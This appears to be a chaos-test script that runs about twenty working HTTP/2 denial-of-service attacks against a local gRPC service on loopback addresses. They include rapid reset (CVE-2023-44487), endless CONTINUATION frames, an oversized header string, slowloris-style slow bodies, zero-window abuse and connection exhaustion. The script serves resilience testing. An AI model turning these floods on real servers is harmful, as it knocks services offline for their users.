#!/usr/bin/env python3
"""Attacks over HTTP/2: what costs a client little and may cost a server much.

    tests/chaos/attacks.py NAME --port PORT [--seconds 5] [--clients 8] [--sources 1] [--tls]

prints how many of its things an attack sent. Loopback only. Each is a generator over a Target (frames.py): it sends, and yields how many of its things it has sent since. It raises
OSError where the server sends it away; who runs it begins it anew.
"""

import argparse
import os
import ssl
import struct
import sys
import threading
import time

from frames import (
    BLOCK, CONTINUATION, DATA, END_HEADERS, END_STREAM, ENTRY, HEADERS, PING, RST, SETTINGS, WINDOW,
    Target, block, discard, frame, literal, message,
)

BATCH = b"/izin.v1.PermitClassificationService/BatchClassifyActivities"


def resets(target):
    """Calls taken back before they are made (CVE-2023-44487)."""
    return _reset(target, lambda stream: frame(HEADERS, END_HEADERS, stream, BLOCK))


def reset_calls(target):
    """The same with whole calls."""
    data = message(ENTRY)
    return _reset(
        target, lambda stream: frame(HEADERS, END_HEADERS, stream, BLOCK) + frame(DATA, END_STREAM, stream, data)
    )


def _reset(target, call):
    client = target.connect()
    discard(client)
    stream = 1
    while True:
        out = b""
        for _ in range(100):
            out += call(stream) + frame(RST, 0, stream, b"\0\0\0\x08")
            stream += 2
        client.sendall(out)
        yield 100


def _repeated(make, count=400):
    def run(target):
        client = target.connect()
        discard(client)
        out = make() * count
        while True:
            client.sendall(out)
            yield count

    return run


settings = _repeated(lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
pings = _repeated(lambda: frame(PING, 0, 0, b"12345678"))


def continuations(target):
    """A header block that never ends."""
    client = target.connect()
    discard(client)
    client.sendall(frame(HEADERS, 0, 1, BLOCK))
    part = literal(b"a", b"b") * 1000
    while True:
        client.sendall(frame(CONTINUATION, 0, 1, part))
        yield 1


def header_string(target):
    """One header of 200 MB by its length, in parts (CVE-2023-33953)."""
    client = target.connect()
    discard(client)
    length, rest = b"\x7f", (200 << 20) - 127
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    client.sendall(frame(HEADERS, 0, 1, BLOCK + b"\0\x03x-y" + length + bytes([rest])))
    part = b"a" * 16000
    while True:
        client.sendall(frame(CONTINUATION, 0, 1, part))
        yield 1


def empty_data(target):
    client = target.connect()
    discard(client)
    client.sendall(frame(HEADERS, END_HEADERS, 1, BLOCK))
    out = frame(DATA, 0, 1) * 1000
    while True:
        client.sendall(out)
        yield 1000


def unfinished_calls(target):
    """Calls that never send their message, on as many streams as the server lets."""
    client = target.connect()
    discard(client)
    stream = 1
    while True:
        client.sendall(b"".join(frame(HEADERS, END_HEADERS, stream + 2 * i, BLOCK) for i in range(100)))
        stream += 200
        yield 100


def slow_headers(target):
    """Header blocks that come a byte at a time."""
    client = target.connect()
    discard(client)
    client.sendall(frame(HEADERS, 0, 1, BLOCK))
    while True:
        client.sendall(frame(CONTINUATION, 0, 1, literal(b"a", b"b")))
        yield 1
        time.sleep(0.2)


def slow_bodies(target):
    """Batches of 40 kB on every stream, of which half comes at once and the rest a byte at a time."""
    client = target.connect()
    discard(client)
    streams = range(1, 101, 2)
    head = block(path=BATCH)
    start = b"\0" + struct.pack(">I", 40 << 10) + b"\x0a" * 15000
    for stream in streams:
        client.sendall(frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, start))
        yield 1
    while True:
        client.sendall(b"".join(frame(DATA, 0, stream, b"\x0a") for stream in streams))
        yield len(streams)
        time.sleep(0.2)


def slow_batches(target):
    """Batches of 100 kB: more than the edge waits for comes at once, the rest a byte at a time."""
    client = target.connect()
    discard(client)
    streams = range(1, 101, 2)
    head = block(path=BATCH)
    for stream in streams:
        client.sendall(frame(HEADERS, END_HEADERS, stream, head))
        client.sendall(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 100 << 10)))
        yield 1
    for _ in range(4):  # as fast as the windows of HTTP/2 let it
        client.sendall(b"".join(frame(DATA, 0, stream, b"\x0a" * 10000) for stream in streams))
        yield 0
        time.sleep(0.5)
    while True:
        client.sendall(b"".join(frame(DATA, 0, stream, b"\x0a") for stream in streams))
        yield len(streams)
        time.sleep(0.2)


def zero_window(target):
    """Batches whose answers nobody lets through."""
    # ClassifyActivityRequest: activity { kbli_code: "56101" }; refused items have long answers too.
    item = b"\x0a\x09\x0a\x07\x0a\x0556101"
    data = message(item * 300)
    client = target.connect(settings=struct.pack(">HI", 4, 0))
    discard(client)
    head = block(path=BATCH)
    for stream in range(1, 61, 2):
        client.sendall(frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, data))
        yield 1
    while True:
        client.sendall(frame(PING, 0, 0, b"12345678"))
        yield 0
        time.sleep(0.2)


def huge_messages(target):
    """Messages of 50 MB, counted in parts of 16 kB."""
    client = target.connect()
    discard(client)
    part = b"x" * 16000
    stream = 1
    while True:
        client.sendall(frame(HEADERS, END_HEADERS, stream, BLOCK))
        client.sendall(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 50 << 20)))
        # The window of a stream is not heeded: who enforces it ends the connection.
        for _ in range((50 << 20) // len(part)):
            client.sendall(frame(DATA, 0, stream, part))
            yield 1
        stream += 2


def _held(dial, most=200):
    def run(target):
        held = []
        try:
            while True:
                if len(held) < most:
                    held.append(dial(target))
                    yield 1
                else:
                    time.sleep(0.1)
                    yield 0
        finally:
            for client in held:
                client.close()

    return run


def _plain(target):
    """A TCP connection that says nothing, not even TLS."""
    return type(target)(target.port, target.source).dial()


def _half_headers(target):
    client = target.connect()
    client.sendall(frame(HEADERS, 0, 1, BLOCK))
    return client


# 200 each, as many as the edge lets one address hold: ten hold 2,000.
idle_connections = _held(lambda target: target.connect())
silent_connections = _held(_plain)
half_open_calls = _held(_half_headers)


def opened_and_closed(target):
    """Connections that say nothing, closed again when 200 are open."""
    held = []
    while True:
        for _ in range(50):
            held.append(_plain(target))
        if len(held) >= 200:
            for client in held:
                client.close()
            held = []
        yield 50


def _call(stream, path, fields):
    """A whole call, `fields` being the strings 1, 2, ... of its message."""
    body = b"".join(bytes([8 * (i + 1) + 2, len(text)]) + text for i, text in enumerate(fields))
    return frame(HEADERS, END_HEADERS, stream, block(path=path)) + frame(DATA, END_STREAM, stream, message(body))


def unread_replays(target):
    """4,000 replays on 40 connections with no room for what they find, held; what is refused is asked again."""
    held = []
    for _ in range(40):
        client = target.connect(settings=struct.pack(">HI", 4, 0))
        calls = (_call(1 + 2 * i, b"/izin.v1.DecisionService/ReplayDecisions", [b"pp24-2018"]) for i in range(100))
        client.sendall(b"".join(calls))
        discard(client)
        held.append(client)
        yield 100
    while True:
        time.sleep(0.1)
        yield 0


def comparisons(target):
    """Comparisons of rulesets, there and back, as fast as they are answered or refused."""
    client = target.connect()
    discard(client)
    path, pair = b"/izin.v1.RulesetService/DiffRulesets", [b"pp24-2018", b"pp28-2025"]
    stream = 1
    while True:
        client.sendall(_call(stream, path, pair) + _call(stream + 2, path, pair[::-1]))
        client.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20)))
        stream += 4
        time.sleep(0.02)
        yield 2


def batches(target):
    """Batches of 1,000 refused questions, as fast as they are taken."""
    client = target.connect()
    discard(client)
    data = message(b"\x0a\x00" * 1000)
    head = block(path=BATCH)
    stream = 1
    while True:
        client.sendall(frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, END_STREAM, stream, data))
        client.sendall(frame(WINDOW, 0, 0, struct.pack(">I", 1 << 20)))
        stream += 2
        time.sleep(0.005)
        yield 1


ATTACKS = {
    "rapid-reset": resets,
    "reset-calls": reset_calls,
    "settings": settings,
    "ping": pings,
    "continuation": continuations,
    "header-string": header_string,
    "empty-data": empty_data,
    "unfinished-calls": unfinished_calls,
    "slow-headers": slow_headers,
    "slow-bodies": slow_bodies,
    "slow-batches": slow_batches,
    "zero-window": zero_window,
    "50-mb-messages": huge_messages,
    "idle-connections": idle_connections,
    "silent-connections": silent_connections,
    "half-open-calls": half_open_calls,
    "opened-and-closed": opened_and_closed,
    "unread-replays": unread_replays,
    "comparisons": comparisons,
    "batches": batches,
}


def run(name, targets, seconds):
    """As many clients at once as there are targets. How many things they sent."""
    sent = [0] * len(targets)
    stop = time.monotonic() + seconds

    def client(at):
        while time.monotonic() < stop:
            attack = ATTACKS[name](targets[at])
            try:
                for count in attack:
                    sent[at] += count
                    if time.monotonic() >= stop:
                        return
            except OSError:
                time.sleep(0.01)  # it was sent away and comes again
            finally:
                attack.close()

    threads = [threading.Thread(target=client, args=(at,), daemon=True) for at in range(len(targets))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(sent)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=5)
    parser.add_argument("--clients", type=int, default=8)
    parser.add_argument("--sources", type=int, default=1, help="addresses they come from: 127.0.0.2 and on")
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--nice", type=int, default=0, help="attackers on the machine of what they attack should be")
    args = parser.parse_args()
    os.nice(args.nice)
    tls = None
    if args.tls:
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
        tls.set_alpn_protocols(["h2"])
    targets = [Target(args.port, f"127.0.0.{2 + at % args.sources}", tls) for at in range(args.clients)]
    print(run(args.name, targets, args.seconds))


if __name__ == "__main__":
    sys.exit(main())
